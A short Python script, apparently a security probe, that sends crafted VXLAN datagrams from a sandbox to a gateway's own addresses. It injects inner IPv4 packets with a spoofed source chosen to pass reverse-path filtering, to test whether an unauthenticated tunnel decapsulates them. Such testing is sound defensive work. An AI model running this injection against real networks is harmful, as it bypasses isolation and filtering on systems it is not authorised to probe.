"""Send, from a sandbox, VXLAN datagrams (UDP 4789) to the gateway's own
addresses, each holding an Ethernet frame for a tunnel device of the
gateway (its MAC and VNI) with an IPv4 UDP datagram to a probe destination
inside: what a tunnel without authentication decapsulates from anyone.

usage: vxlan_send.py INNER_DST MAC/VNI/H[,MAC/VNI/H...] GATEWAY_ADDR...
(the inner source is 10.99.H.2: on the device's own prefix, 10.99.H.0/24,
a reverse-path filter lets it in)
"""
import socket
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def frame(mac, inner_src, inner_dst):
    udp = struct.pack("!HHHH", 40000, 9, 8 + 5, 0) + b"VXOUT"
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton(inner_src), socket.inet_aton(inner_dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("02aabbccdd01") + b"\x08\x00" + ip + udp


def main():
    dst, targets, gws = sys.argv[1], sys.argv[2], sys.argv[3:]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for t in targets.split(","):
        mac, vni, h = t.split("/")
        vx = b"\x08\0\0\0" + struct.pack("!I", int(vni) << 8)
        for gw in gws:
            for _ in range(2):
                try:
                    s.sendto(vx + frame(mac, "10.99.%d.2" % int(h), dst), (gw, 4789))
                except OSError:
                    pass


main()
